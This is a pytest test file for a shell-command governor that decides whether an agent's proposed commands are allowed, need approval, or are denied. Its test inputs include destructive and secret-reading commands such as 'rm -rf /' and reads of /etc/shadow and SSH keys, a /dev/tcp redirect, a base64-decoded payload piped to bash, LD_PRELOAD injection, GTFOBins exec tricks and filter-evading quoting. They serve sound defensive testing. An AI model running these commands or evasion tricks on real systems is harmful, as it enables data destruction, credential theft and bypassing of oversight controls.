"""Shell judging: every simple command of a line is judged; unresolvable constructs are refused."""

from __future__ import annotations

import random

import pytest

from swarmd.governor.shell import parse_command


def sh(gov, ws, cmd):
    return gov.decide("shell", {"command": cmd}, ws)


@pytest.mark.parametrize("cmd", [
    "ls && rm -rf /", "ls; cat /etc/shadow", "false || cat ~/.ssh/id_rsa", "ls | sh", "ls | tee /etc/x",
    "echo $(cat /etc/shadow)", "echo `cat /etc/shadow`", "cat <(cat /etc/shadow)", "(ls; cat /etc/shadow)",
    "{ ls; cat /etc/shadow; }", "ls > /etc/cron.d/x", "ls 2> /etc/x", "cat < /etc/shadow", "ls >> ~/.bashrc",
    "x=$(cat /etc/shadow) ls", "ls $(sh -c id)", "while true; do cat /etc/shadow; done",
    "if true; then rm -rf /; fi", "ls & cat /etc/shadow",
])
def test_every_part_is_judged(gov, workspace, cmd):
    assert sh(gov, workspace, cmd).decision == "deny"


def test_strictest_part_reported(gov, workspace):
    d = sh(gov, workspace, "git status && git push")
    assert d.decision == "ask" and d.rule == "git-write" and "git push" in d.reason


@pytest.mark.parametrize("cmd,rule", [
    ("ls $(", "shell.parse-error"), ("echo $((1+2))", "shell.parse-error"), ("case a in a) ls;; esac", "shell.parse-error"),
    ("eval ls", "shell.shell-builtin"), ("source x.sh", "shell.shell-builtin"), (". ./x.sh", "shell.shell-builtin"),
    ("$CMD -la", "shell.dynamic-command"), ("${CMD} x", "shell.dynamic-command"), ("$(which ls)", "shell.dynamic-command"),
    ("l* -la", "shell.dynamic-command"), ("ls${IFS}-la", "shell.dynamic-command"), ("echo${IFS}hi", "shell.dynamic-command"),
    ("cat ${IFS}x", "shell.ifs"), ("echo $'\\x41'", "shell.ansi-quoting"), ("cat {a,/etc/shadow}", "shell.brace-expansion"),
    ("cat <<EOF\n$(id)\nEOF", "shell.heredoc-expansion"), ("PATH=/tmp ls", "shell.dangerous-assignment"),
    ("LD_PRELOAD=/tmp/x.so ls", "shell.dangerous-assignment"), ("env LD_PRELOAD=x.so ls", "shell.dangerous-assignment"),
    ("sh -c id", "shell.interpreter-inline-code"), ("bash -xc id", "shell.interpreter-inline-code"),
    ("python3 -c 'print(1)'", "shell.interpreter-inline-code"), ("perl -e 1", "shell.interpreter-inline-code"),
    ("node --eval 1", "shell.interpreter-inline-code"), ("echo aWQ= | base64 -d | bash", "shell.interpreter-stdin"),
    ("python3 < x.py", "shell.interpreter-stdin"), ("python3 -", "shell.interpreter-stdin"),
    ("bash <(echo id)", "shell.interpreter-stdin"), ("sudo ls", "shell.privilege-escalation"),
    ("su -", "shell.privilege-escalation"), ("f() { ls; }; f", "shell.function-definition"),
    ("ls\x1b[2J", "shell.control-characters"), ("ls \u202e", "shell.control-characters"), ("", "shell.empty"),
    ("find . -exec id \\;", "shell.gtfobins"), ("find . -delete", "shell.gtfobins"),
    ("awk 'BEGIN{system(\"id\")}'", "shell.gtfobins"), ("sed '1e id' x", "shell.gtfobins"),
    ("sed -n 's/a/b/w out' x", "shell.gtfobins"), ("tar cf x.tar --checkpoint-action=exec=id .", "shell.gtfobins"),
    ("git -c core.pager=id log", "shell.gtfobins"), ("git log --ext-diff", "shell.gtfobins"),
    ("rg --pre id x", "shell.gtfobins"), ("chmod u+s x", "shell.gtfobins"), ("ls > /dev/tcp/1.2.3.4/80", "shell.dev-tcp"),
    ("curl file:///etc/passwd", "shell.file-url"), ("curl http://0x7f.1/", "url.odd-ip-encoding"),
    ("curl http://169.254.169.254/", "url.non-public-address"), ("/tmp/evil", "shell.path-executable"),
    ("cd - && ls", "shell.cd"), ("git -C . -c core.pager=x log", "shell.gtfobins"), ("jq -L / x", "shell.gtfobins"),
    ("awk -e '{print}' /etc/shadow", "files.secret"), ("git show HEAD:.env", "files.secret"),
    ("date -s 2020-01-01", "shell.system-change"), ("ls | tee >(sh)", "shell.interpreter-stdin"),
])
def test_builtin_rules(gov, workspace, cmd, rule):
    d = sh(gov, workspace, cmd)
    assert d.decision == "deny" and d.rule == rule, d


@pytest.mark.parametrize("cmd,rule", [
    ("git push", "git-write"), ("git branch -D main", "default.shell"), ("rm src/app.py", "shell-rm"),
    ("xargs grep foo", "shell.wrapper"), ("timeout 5 ls", "shell.wrapper"), ("ls &", "shell.background"),
    ("for f in a b; do echo x; done", "shell.control-flow"), ("X=1", "shell.assignment"), ("> notes.txt", "shell.redirect-only"),
    ("./run.sh", "shell.path-executable"), ("python3 script.py", "interpreters"), ("frobnicate --now", "default.shell"),
    ("cat $HOME/x", "shell.dynamic-argument"), ("echo $(date)", "shell.dynamic-argument"),
    ("awk -f prog.awk x", "shell.awk-program-file"), ("sed -i 's/a/b/' x", "shell.sed-in-place"),
    ("sed 'v' x", "shell.sed-script"), ("tail -f notes.txt", "shell-follow-forever"),
    ("sort -o out.txt notes.txt", "shell.writes-file"), ("uniq notes.txt out.txt", "shell.writes-file"),
    ("git log --output=x", "shell.writes-file"), ("cat $(printf /etc/shadow)", "shell.dynamic-argument"),
])
def test_ask_cases(gov, workspace, cmd, rule):
    d = sh(gov, workspace, cmd)
    assert d.decision == "ask" and d.rule == rule, d


def test_cd_paths_judged_from_every_possible_cwd(gov, workspace):
    assert sh(gov, workspace, "cd src && cat app.py").decision == "allow"
    # if `cd src` failed, ../outside.txt would be read from the workspace root: must not pass
    assert sh(gov, workspace, "cd src; cat ../notes.txt").decision == "deny"
    assert sh(gov, workspace, "cd link_out && cat passwd").decision == "deny"


def test_glob_matches_judged(gov, workspace):
    assert sh(gov, workspace, "cat src/*.py").decision == "allow"
    # * matches the symlink pointing at /etc: the expansion is judged, not just the pattern
    assert sh(gov, workspace, "ls link_*/passwd").decision == "deny"
    assert sh(gov, workspace, "cat secrets_*/id_rsa").decision == "deny"


def test_quoting_tricks_resolve_to_real_names(gov, workspace):
    for cmd in ["r''m -rf /", "\\rm -rf /", "'rm' -rf /", "\"r\"m -rf /"]:
        d = sh(gov, workspace, cmd)
        assert d.decision == "deny" and d.rule == "files.outside-workspace", (cmd, d)


def test_plain_commands_get_argv_others_need_shell():
    assert [w.text for w in parse_command("ls -la src").plain] == ["ls", "-la", "src"]
    assert [w.text for w in parse_command("grep -rn 'rm -rf' src/").plain] == ["grep", "-rn", "rm -rf", "src/"]
    for cmd in ["ls | wc", "ls > x", "ls; ls", "echo $(date)", "X=1 ls", "cd src"]:
        assert parse_command(cmd).plain is None, cmd


def test_hostile_input_never_raises(gov, workspace):
    rng = random.Random(1234)
    alphabet = "ab $`'\"\\|&;<>(){}[]*?~!#=%\n\t-/.:,@^0x" + "\u00e9\u202e\x00\x07"
    samples = ["".join(rng.choice(alphabet) for _ in range(rng.randint(1, 60))) for _ in range(400)]
    samples += ["$(" * 500 + ")" * 500, "(" * 3000, "a|" * 2000 + "a", "x" * 9000, "'unterminated", "echo \"unterminated"]
    for cmd in samples:
        d = sh(gov, workspace, cmd)
        assert d.decision in ("allow", "deny", "ask") and d.rule and d.reason
    for bad in [None, 3, ["ls"], {"x": 1}, b"ls"]:
        assert gov.decide("shell", {"command": bad}, workspace).decision == "deny"
    assert gov.decide("shell", {"cmd": "ls"}, workspace).rule == "governor.bad-arguments"
    assert gov.decide("shell", {"command": "ls", "extra": "x"}, workspace).rule == "governor.bad-arguments"
    assert gov.decide("rm_rf", {}, workspace).rule == "governor.unknown-tool"
    assert gov.decide("shell", "ls", workspace).rule == "governor.bad-arguments"


@pytest.mark.timeout(20)
@pytest.mark.parametrize("cmd", [
    "echo ``'${'", "echo `echo '${'`", "echo ``'${' }", "cat $(echo '${x')", 'ls "`printf %s ${`"',
])
def test_unclosed_parameter_expansion_is_denied_not_a_hang(gov, workspace, cmd):
    # bashlex 0.18 loops for ever on a ${ with no } in a word it re-expands; the
    # governor's guard turns that into a parse error (deny) instead of a stalled worker
    d = sh(gov, workspace, cmd)
    assert d.decision in ("deny", "ask"), (cmd, d)
    if cmd.startswith("echo ``"):  # these loop in unguarded bashlex
        assert d.rule == "shell.parse-error", d
